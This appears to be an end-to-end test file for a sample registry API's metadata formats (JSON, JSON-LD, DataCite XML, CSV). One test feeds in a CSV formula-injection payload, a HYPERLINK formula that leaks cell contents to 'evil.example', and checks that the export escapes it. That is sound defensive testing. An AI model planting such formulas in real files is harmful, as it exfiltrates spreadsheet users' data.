import { INestApplication } from '@nestjs/common';
import { randomUUID } from 'node:crypto';
import request from 'supertest';
import { parseStringPromise } from 'xml2js';
import { validateXML } from 'xmllint-wasm';
import { SAMPLE_CSV_COLUMNS } from '../src/modules/metadata-formats/csv.serializer';
import { dataCiteSchema } from './fixtures/fixtures';
import { createRegistrant, createUserWithToken, uniqueOrcid, uniqueRor } from './support/auth';
import { createTestApp } from './support/test-app';

type Registrant = Awaited<ReturnType<typeof createRegistrant>>;
/** A parsed body or document, read field by field (what JSON.parse gives). */
type Json = ReturnType<typeof JSON.parse>;

const MEDIA = {
  json: 'application/json',
  jsonld: 'application/ld+json',
  datacite: 'application/vnd.datacite.datacite+xml',
  csv: 'text/csv',
} as const;
type Format = keyof typeof MEDIA;
const FORMATS = Object.keys(MEDIA) as Format[];

/**
 * Validates against the DataCite 4.6 XSD. metadata.xsd includes its parts as `include/<file>`,
 * so they are preloaded under exactly those names.
 */
async function dataCiteSchemaErrors(...documents: string[]): Promise<string[]> {
  const result = await validateXML({
    xml: documents.map((contents, index) => ({ fileName: `sample-${index}.xml`, contents })),
    ...dataCiteSchema(),
  });
  return result.errors.map((error) => error.rawMessage);
}

/** An element as xml2js gives it: text under `_`, attributes under `$`, child elements as lists. */
interface XmlNode {
  _?: string;
  $?: Record<string, string>;
  [child: string]: unknown;
}

async function parseXml(xml: string): Promise<XmlNode> {
  return ((await parseStringPromise(xml, { explicitCharkey: true })) as { resource: XmlNode }).resource;
}
const all = (node: XmlNode, ...path: string[]): XmlNode[] =>
  path.reduce<XmlNode[]>((nodes, name) => nodes.flatMap((n) => (n[name] as XmlNode[] | undefined) ?? []), [node]);
const texts = (node: XmlNode, ...path: string[]): (string | undefined)[] => all(node, ...path).map((n) => n._);

/** RFC 4180 reader (CRLF records, quoted fields, doubled quotes). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      records.push([...record, field]);
      record = [];
      field = '';
      i++;
    } else field += char;
  }
  return records;
}

/** The CSV of one sample as `{header: value}`. */
function csvRecord(text: string): Record<string, string> {
  const [header, row, ...rest] = parseCsv(text);
  expect(rest).toEqual([]);
  expect(row).toHaveLength(header.length);
  return Object.fromEntries(header.map((name, index) => [name, row[index]]));
}

describe('sample metadata formats (content negotiation on GET /api/samples/{igsn}/)', () => {
  let app: INestApplication;
  const http = () => request(app.getHttpServer());
  let owner: Registrant;
  let parent: Json;
  let sample: Json;
  const tag = randomUUID().slice(0, 8);
  const orcid = uniqueOrcid();
  const ror = uniqueRor();

  const register = (body: Json) => http().post('/api/samples/').set(owner.auth).send(body).expect(201);
  const fetchAs = (igsn: string, format: Format, auth: Record<string, string> = {}) =>
    http().get(`/api/samples/${igsn}/`).set(auth).set('Accept', MEDIA[format]);

  beforeAll(async () => {
    app = await createTestApp();
    owner = await createRegistrant(app);
    parent = (
      await register({
        registry_code: owner.code,
        name: `Dredge haul ${tag}`,
        object_type: 'Individual sample',
        latitude: 41.5,
        longitude: -72.8,
      })
    ).body.data;
    sample = (
      await register({
        registry_code: owner.code,
        name: `Basalt <A&B> "dredge" ${tag}`,
        object_type: 'Individual sample',
        general_material_type: 'rock',
        material_types: ['Igneous>Volcanic', 'Basalt'],
        sample_description: 'Pillow basalt, fresh glass rim.\nSecond line: é ü 中文',
        latitude: 41.5,
        longitude: -72.8,
        end_latitude: 41.6,
        end_longitude: -72.6,
        elevation: -2500,
        elevation_end: -2400,
        elevation_unit: 'meters',
        depth_min: 0,
        depth_max: 1.5,
        depth_unit: 'meters',
        depth_scale: 'MBSF',
        country: 'us',
        province: 'Massachusetts',
        county: 'Barnstable',
        city: 'Woods Hole',
        locality: 'Atlantis Fracture Zone',
        location_description: 'Northern wall of the fracture zone',
        location_method: 'DGPS',
        purpose: 'Petrology',
        size: '12',
        size_unit: 'cm',
        field_name: 'Pillow basalt',
        primary_location_name: 'Atlantis Massif',
        primary_location_type: 'Seamount',
        vertical_datum: 'WGS84',
        northing: '4595000',
        easting: '350000',
        zone: '19T',
        cruise_field_prgrm: 'AT42-01',
        current_archive_contact: 'curator@example.org',
        original_archive_contact: 'Ship lab',
        parent_sample: parent.igsn,
        external_parent_name: 'Dredge haul 7',
        external_parent_object_type: 'Dredge',
        other_names: ['D7-1', 'Field #12'],
        numeric_age_min: 1.2,
        numeric_age_max: 2.5,
        numeric_age_unit: 'Ma',
        geologic_age_verbatim: 'Pleistocene',
        geologic_unit: 'Layer 2A',
        sampling_method: 'Dredging',
        sampling_method_detail: 'Chain bag dredge along the wall',
        sampling_start_date: '2024-06-01',
        sampling_end_date: '2024-06-03T12:00:00Z',
        sampling_date_precision: 'day',
        launch_label: 'Dive 4567',
        collectors: [
          {
            individual: {
              label: `Marie Tharp ${tag}`,
              fname: 'Marie',
              lname: 'Tharp',
              individual_uri: orcid,
            },
            institution: { label: `Lamont-Doherty Earth Observatory ${tag}`, ror },
            description: 'Chief scientist',
          },
          { institution: { label: `Woods Hole Oceanographic Institution ${tag}` } },
        ],
        platform: { label: `R/V Atlantis ${tag}`, platform_type: 'Ship', description: 'Global class research vessel' },
        launch_platform: { label: `Alvin ${tag}`, launch_type: 'HOV' },
        current_archive: { label: `Core Repository ${tag}` },
        original_archive: { label: `Ship archive ${tag}` },
        related_resources: [
          {
            uri: 'https://doi.org/10.1594/PANGAEA.123456',
            description: 'Geochemistry',
            relation_type: 'IsDocumentedBy',
          },
          { uri: 'https://example.org/report?a=1&b=2', description: 'Cruise report', relation_type: 'mentions' },
          { uri: 'https://example.org/same', relation_type: 'IsIdenticalTo' },
        ],
        publish_date: '2025-03-04T10:00:00Z',
      })
    ).body.data;
  });

  afterAll(async () => {
    await app.close();
  });

  describe('negotiation', () => {
    it('answers JSON without Accept, with */*, with application/json and with ?format=json', async () => {
      const expected = { data: sample };
      const answers = [
        await http().get(`/api/samples/${sample.igsn}/`),
        await http().get(`/api/samples/${sample.igsn}/`).set('Accept', '*/*'),
        await fetchAs(sample.igsn, 'json'),
        await http().get(`/api/samples/${sample.igsn}/?format=json`).set('Accept', MEDIA.csv),
        await http().get(`/api/samples/${sample.igsn}`).set('Accept', 'text/html, application/*;q=0.9'),
      ];
      for (const res of answers) {
        expect(res.status).toBe(200);
        expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
        expect(res.headers.vary).toMatch(/\bAccept\b/);
        expect({ data: { ...res.body.data, can_edit: true, can_deactivate: true } }).toEqual(expected);
      }
    });

    it.each(FORMATS)('serves %s by Accept and by ?format, on both route shapes, with Vary: Accept', async (format) => {
      const suffix = sample.igsn.split('/')[1];
      const byAccept = await fetchAs(sample.igsn, format).expect(200);
      const byQuery = await http().get(`/api/samples/${suffix.toLowerCase()}/?format=${format}`).expect(200);
      for (const res of [byAccept, byQuery]) {
        expect(res.headers['content-type']).toMatch(
          new RegExp(`^${MEDIA[format].replace(/[+.]/g, '\\$&')}; charset=utf-8`),
        );
        expect(res.headers.vary).toMatch(/\bAccept\b/);
      }
      // the same document, but for the ephemeral port each supertest request listens on
      const portless = (text: string) => text.replace(/127\.0\.0\.1:\d+/g, 'host');
      expect(portless(byQuery.text)).toBe(portless(byAccept.text));
    });

    it('prefers the format the client ranks highest', async () => {
      const res = await http()
        .get(`/api/samples/${sample.igsn}/`)
        .set('Accept', `${MEDIA.json};q=0.5, ${MEDIA.datacite}, ${MEDIA.csv};q=0.8`)
        .expect(200);
      expect(res.headers['content-type']).toMatch(/^application\/vnd\.datacite\.datacite\+xml/);
    });

    it('answers 406 with the error body listing the available types when Accept allows none', async () => {
      for (const accept of ['image/png', 'application/pdf, image/*;q=0.5', `${MEDIA.json};q=0`]) {
        const res = await http().get(`/api/samples/${sample.igsn}/`).set('Accept', accept).expect(406);
        expect(res.headers['content-type']).toMatch(/^application\/json/);
        expect(res.headers.vary).toMatch(/\bAccept\b/);
        expect(res.body).toEqual({
          message: `None of the requested media types is available; this resource is available as ${Object.values(MEDIA).join(', ')}.`,
          errors: { accept: [`must allow one of ${Object.values(MEDIA).join(', ')}`] },
        });
      }
    });

    it('refuses an unknown ?format with 400 naming the parameter, whatever the Accept', async () => {
      const res = await http().get(`/api/samples/${sample.igsn}/?format=pdf`).set('Accept', '*/*').expect(400);
      expect(res.body).toEqual({
        message: 'Invalid format: must be one of json, jsonld, datacite, csv.',
        errors: { format: ['must be one of json, jsonld, datacite, csv'] },
      });
      await http().get(`/api/samples/${sample.igsn}/?format=csv&format=json`).expect(400);
    });

    it('keeps the visibility rules in every format: a draft is 401 anonymous, 404 to strangers, 200 to its owner', async () => {
      const draft = (
        await register({ registry_code: owner.code, name: `draft ${tag}`, object_type: 'Core', is_draft: true })
      ).body.data;
      const stranger = await createUserWithToken(app);
      const documents: string[] = [];
      for (const format of FORMATS) {
        const byAccept = await fetchAs(draft.igsn, format).expect(401);
        expect(byAccept.body).toEqual({
          message: 'This sample is not public; send a token with view permission.',
          errors: {},
        });
        expect(byAccept.headers['www-authenticate']).toBe('Bearer');
        await http().get(`/api/samples/${draft.igsn}/?format=${format}`).expect(401);
        await fetchAs(draft.igsn, format, stranger.auth).expect(404);
        const mine = await fetchAs(draft.igsn, format, owner.auth).expect(200);
        if (format === 'datacite') documents.push(mine.text);
      }
      // a draft without coordinates still makes a valid DataCite document
      expect(await dataCiteSchemaErrors(...documents)).toEqual([]);
      await fetchAs('10.5072/IENOPE0001', 'datacite').expect(404);
    });
  });

  describe('DataCite XML', () => {
    it('validates against the DataCite 4.6 schema and carries every mapped field', async () => {
      const res = await fetchAs(sample.igsn, 'datacite').expect(200);
      expect(res.headers['content-type']).toBe('application/vnd.datacite.datacite+xml; charset=utf-8');
      expect(await dataCiteSchemaErrors(res.text)).toEqual([]);
      const resource = await parseXml(res.text);

      expect(all(resource, 'identifier')).toEqual([{ _: sample.igsn, $: { identifierType: 'DOI' } }]);
      const [marie, whoi] = all(resource, 'creators', 'creator');
      expect(marie).toEqual({
        creatorName: [{ _: 'Tharp, Marie', $: { nameType: 'Personal' } }],
        givenName: [{ _: 'Marie' }],
        familyName: [{ _: 'Tharp' }],
        nameIdentifier: [
          {
            _: orcid,
            $: { nameIdentifierScheme: 'ORCID', schemeURI: 'https://orcid.org' },
          },
        ],
        affiliation: [
          {
            _: `Lamont-Doherty Earth Observatory ${tag}`,
            $: {
              affiliationIdentifier: `https://ror.org/${ror}`,
              affiliationIdentifierScheme: 'ROR',
              schemeURI: 'https://ror.org',
            },
          },
        ],
      });
      expect(whoi).toEqual({
        creatorName: [{ _: `Woods Hole Oceanographic Institution ${tag}`, $: { nameType: 'Organizational' } }],
      });
      expect(all(resource, 'titles', 'title')[0]).toEqual({ _: sample.name });
      expect(texts(resource, 'publisher')).toEqual(['Sample Registry']);
      expect(texts(resource, 'publicationYear')).toEqual(['2025']);
      expect(all(resource, 'resourceType')).toEqual([
        { _: sample.object_type_path, $: { resourceTypeGeneral: 'PhysicalObject' } },
      ]);
      expect(texts(resource, 'subjects', 'subject')).toEqual([
        sample.object_type_path,
        'Pleistocene',
        'Rock > Igneous>Volcanic',
        'Rock > Basalt',
      ]);
      expect(
        all(resource, 'contributors', 'contributor').map((c) => [c.$?.contributorType, texts(c, 'contributorName')[0]]),
      ).toEqual([
        ['HostingInstitution', `Core Repository ${tag}`],
        ['ContactPerson', 'curator@example.org'],
      ]);
      expect(all(resource, 'dates', 'date')).toEqual([
        { _: '2024-06-01/2024-06-03', $: { dateType: 'Collected' } },
        { _: sample.created_at.slice(0, 10), $: { dateType: 'Created' } },
        { _: sample.updated_at.slice(0, 10), $: { dateType: 'Updated' } },
        { _: '2025-03-04', $: { dateType: 'Available' } },
      ]);
      expect(all(resource, 'alternateIdentifiers', 'alternateIdentifier')).toEqual([
        { _: 'D7-1', $: { alternateIdentifierType: 'Local' } },
        { _: 'Field #12', $: { alternateIdentifierType: 'Local' } },
      ]);
      expect(all(resource, 'relatedIdentifiers', 'relatedIdentifier')).toEqual([
        {
          _: parent.igsn,
          $: { relatedIdentifierType: 'DOI', relationType: 'IsPartOf', resourceTypeGeneral: 'PhysicalObject' },
        },
        { _: '10.1594/PANGAEA.123456', $: { relatedIdentifierType: 'DOI', relationType: 'IsDocumentedBy' } },
        {
          _: 'https://example.org/report?a=1&b=2',
          $: { relatedIdentifierType: 'URL', relationType: 'IsReferencedBy' },
        },
        { _: 'https://example.org/same', $: { relatedIdentifierType: 'URL', relationType: 'IsIdenticalTo' } },
      ]);
      expect(texts(resource, 'sizes', 'size')).toEqual(['12 cm']);
      const descriptions = all(resource, 'descriptions', 'description').map((d) => [d.$?.descriptionType, d._]);
      expect(descriptions.slice(0, 3)).toEqual([
        ['Abstract', 'Pillow basalt, fresh glass rim.\nSecond line: é ü 中文'],
        ['Methods', 'Dredging: Chain bag dredge along the wall'],
        ['Methods', 'Location method: DGPS'],
      ]);
      expect(descriptions.slice(3)).toEqual(
        [
          'Purpose: Petrology',
          'Location description: Northern wall of the fracture zone',
          'Primary location: Atlantis Massif (Seamount)',
          'Field name: Pillow basalt',
          'Geologic unit: Layer 2A',
          'Numeric age: 1.2 to 2.5 Ma',
          'Elevation: -2500 to -2400 meters (WGS84)',
          'Depth: 0 to 1.5 meters (MBSF)',
          'UTM coordinates: zone 19T, easting 350000, northing 4595000',
          'Cruise or field program: AT42-01',
          `Platform: R/V Atlantis ${tag} (Ship, Global class research vessel)`,
          `Launch platform: Alvin ${tag} (HOV)`,
          'Launch: Dive 4567',
          `Original archive: Ship archive ${tag} (Ship lab)`,
          'External parent: Dredge haul 7 (Dredge)',
        ].map((text) => ['Other', text]),
      );
      const [geo] = all(resource, 'geoLocations', 'geoLocation');
      expect(texts(geo, 'geoLocationPlace')).toEqual([
        'Atlantis Fracture Zone, Woods Hole, Barnstable, Massachusetts, United States',
      ]);
      expect(all(geo, 'geoLocationPoint')).toEqual([
        { pointLongitude: [{ _: '-72.8' }], pointLatitude: [{ _: '41.5' }] },
      ]);
      expect(all(geo, 'geoLocationBox')).toEqual([
        {
          westBoundLongitude: [{ _: '-72.8' }],
          eastBoundLongitude: [{ _: '-72.6' }],
          southBoundLatitude: [{ _: '41.5' }],
          northBoundLatitude: [{ _: '41.6' }],
        },
      ]);
    });

    it('makes a valid document of a sample with only the required fields', async () => {
      const minimal = (
        await register({
          registry_code: owner.code,
          name: `minimal ${tag}`,
          object_type: 'Core',
          latitude: -12.5,
          longitude: 130.25,
        })
      ).body.data;
      const xml = (await fetchAs(minimal.igsn, 'datacite').expect(200)).text;
      const parentXml = (await fetchAs(parent.igsn, 'datacite').expect(200)).text;
      expect(await dataCiteSchemaErrors(xml, parentXml)).toEqual([]);
      expect(xml).not.toMatch(/<(\w+)[^>]*>\s*<\/\1>|<\w+[^>]*\/>/);
      const resource = await parseXml(xml);
      expect(Object.keys(resource).filter((key) => key !== '$')).toEqual([
        'identifier',
        'creators',
        'titles',
        'publisher',
        'publicationYear',
        'resourceType',
        'subjects',
        'dates',
        'geoLocations',
      ]);
      // nobody collected it: the publisher is the creator
      expect(all(resource, 'creators', 'creator', 'creatorName')).toEqual([
        { _: 'Sample Registry', $: { nameType: 'Organizational' } },
      ]);
      expect(texts(resource, 'publicationYear')).toEqual([minimal.publish_date.slice(0, 4)]);
      expect(all(resource, 'geoLocations', 'geoLocation', 'geoLocationPoint')).toEqual([
        { pointLongitude: [{ _: '130.25' }], pointLatitude: [{ _: '-12.5' }] },
      ]);
    });
  });

  describe('schema.org JSON-LD', () => {
    it('describes the sample field by field', async () => {
      const res = await fetchAs(sample.igsn, 'jsonld').expect(200);
      expect(res.headers['content-type']).toBe('application/ld+json; charset=utf-8');
      const document: Json = JSON.parse(res.text);
      const doi = (igsn: string) => `https://doi.org/${igsn}`;
      expect(document).toMatchObject({
        '@context': 'https://schema.org/',
        '@type': 'CreativeWork',
        '@id': doi(sample.igsn),
        identifier: { '@type': 'PropertyValue', propertyID: 'IGSN', value: sample.igsn, url: doi(sample.igsn) },
        name: sample.name,
        alternateName: ['D7-1', 'Field #12'],
        description: sample.sample_description,
        additionalType: sample.object_type_path,
        material: ['Rock', 'Igneous>Volcanic', 'Basalt'],
        size: '12 cm',
        spatialCoverage: {
          '@type': 'Place',
          name: 'Atlantis Fracture Zone, Woods Hole, Barnstable, Massachusetts, United States',
          description: 'Northern wall of the fracture zone',
          address: {
            '@type': 'PostalAddress',
            addressLocality: 'Woods Hole',
            addressRegion: 'Massachusetts',
            addressCountry: 'US',
          },
          geo: { '@type': 'GeoShape', line: '41.5 -72.8 41.6 -72.6', elevation: -2500 },
        },
        temporalCoverage: '2024-06-01/2024-06-03',
        dateCreated: sample.created_at,
        dateModified: sample.updated_at,
        datePublished: '2025-03-04T10:00:00.000Z',
        creator: [
          {
            '@type': 'Person',
            '@id': orcid,
            name: `Marie Tharp ${tag}`,
            givenName: 'Marie',
            familyName: 'Tharp',
            affiliation: {
              '@type': 'Organization',
              '@id': `https://ror.org/${ror}`,
              name: `Lamont-Doherty Earth Observatory ${tag}`,
            },
          },
          { '@type': 'Organization', name: `Woods Hole Oceanographic Institution ${tag}` },
        ],
        contributor: {
          '@type': 'Role',
          roleName: 'HostingInstitution',
          contributor: { '@type': 'Organization', name: `Core Repository ${tag}` },
        },
        publisher: { '@type': 'Organization', name: 'Sample Registry' },
        isPartOf: { '@type': 'CreativeWork', '@id': doi(parent.igsn) },
        sameAs: 'https://example.org/same',
        subjectOf: [
          { '@id': 'https://doi.org/10.1594/PANGAEA.123456', description: 'Geochemistry' },
          { '@id': 'https://example.org/report?a=1&b=2', description: 'Cruise report' },
        ],
      });
      expect(document.url).toMatch(new RegExp(`^http://127\\.0\\.0\\.1:\\d+/samples/${sample.igsn.split('/')[1]}$`));
      expect(document.keywords).toEqual(
        expect.arrayContaining(['Pleistocene', 'Layer 2A', 'Rock > Igneous>Volcanic', 'Rock > Basalt']),
      );
    });
  });

  describe('CSV', () => {
    it('writes a header and one row holding every field of the JSON', async () => {
      const res = await fetchAs(sample.igsn, 'csv').expect(200);
      expect(res.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
      expect(res.headers['content-disposition']).toBe(`attachment; filename="${sample.igsn.split('/')[1]}.csv"`);
      expect(res.text.endsWith('\r\n')).toBe(true);
      const record = csvRecord(res.text);
      expect(Object.keys(record)).toHaveLength(Object.keys(sample).length);

      const fetched = { ...sample, can_edit: false, can_deactivate: false };
      // every plain field as the JSON has it (numbers as numbers, null as an empty cell) …
      for (const { key, header } of SAMPLE_CSV_COLUMNS) {
        const value: unknown = fetched[key];
        if (value === null) expect([key, record[header]]).toEqual([key, '']);
        else if (typeof value === 'string' || typeof value === 'number' || typeof value === 'boolean') {
          expect([key, record[header]]).toEqual([key, String(value)]);
        }
      }
      // … and the lists and nested objects flattened
      expect(record).toMatchObject({
        IGSN: fetched.igsn,
        'Sample Name': fetched.name,
        'Sample Description': 'Pillow basalt, fresh glass rim.\nSecond line: é ü 中文',
        'Parent IGSN': parent.igsn,
        'Other Name(s)': 'D7-1; Field #12',
        'Material Type(s)': 'Igneous>Volcanic; Basalt',
        'Latitude (WGS84)': '41.5',
        'Longitude (WGS84)': '-72.8',
        'Latitude End (WGS84)': '41.6',
        'Longitude End (WGS84)': '-72.6',
        Elevation: '-2500',
        'Depth Min': '0',
        Country: 'US',
        'Sampling Start Date': '2024-06-01T00:00:00.000Z',
        Collectors:
          `Marie Tharp ${tag}, Lamont-Doherty Earth Observatory ${tag} (Chief scientist); ` +
          `Woods Hole Oceanographic Institution ${tag}`,
        Platform: `R/V Atlantis ${tag} (Ship)`,
        'Launch Platform': `Alvin ${tag} (HOV)`,
        'Current Archive': `Core Repository ${tag}`,
        'Original Archive': `Ship archive ${tag}`,
        'Related Resources':
          'https://doi.org/10.1594/PANGAEA.123456 (IsDocumentedBy, Geochemistry); ' +
          'https://example.org/report?a=1&b=2 (mentions, Cruise report); https://example.org/same (IsIdenticalTo)',
        Draft: 'false',
        'Deactivate Reason': '',
        'Team Owner ID': '',
        'User Owner ID': String(owner.userId),
        ID: String(fetched.id),
        'Created At': fetched.created_at,
        'Can Edit': 'false',
      });
    });

    it('escapes formulas but keeps numbers numbers', async () => {
      const hostile = (
        await register({
          registry_code: owner.code,
          name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
          object_type: 'Individual sample',
          latitude: -12.5,
          longitude: -45,
          other_names: ['+SUM(1,2)', '@cmd'],
          sample_description: '-2+3',
          northing: '-12.5',
          easting: '+300',
          purpose: 'a=b is fine',
        })
      ).body.data;
      const res = await fetchAs(hostile.igsn, 'csv').expect(200);
      expect(res.text).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"');
      const record = csvRecord(res.text);
      expect(record).toMatchObject({
        'Sample Name': '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
        'Other Name(s)': "'+SUM(1,2); @cmd",
        'Sample Description': "'-2+3",
        Purpose: 'a=b is fine',
        Northing: '-12.5',
        Easting: '+300',
        'Latitude (WGS84)': '-12.5',
        'Longitude (WGS84)': '-45',
      });
      // the JSON, JSON-LD and DataCite answers carry the name as it was given
      expect(JSON.parse((await fetchAs(hostile.igsn, 'jsonld').expect(200)).text).name).toBe(hostile.name);
      const xml = (await fetchAs(hostile.igsn, 'datacite').expect(200)).text;
      expect(await dataCiteSchemaErrors(xml)).toEqual([]);
      expect(texts(await parseXml(xml), 'titles', 'title')[0]).toBe(hostile.name);
    });
  });
});
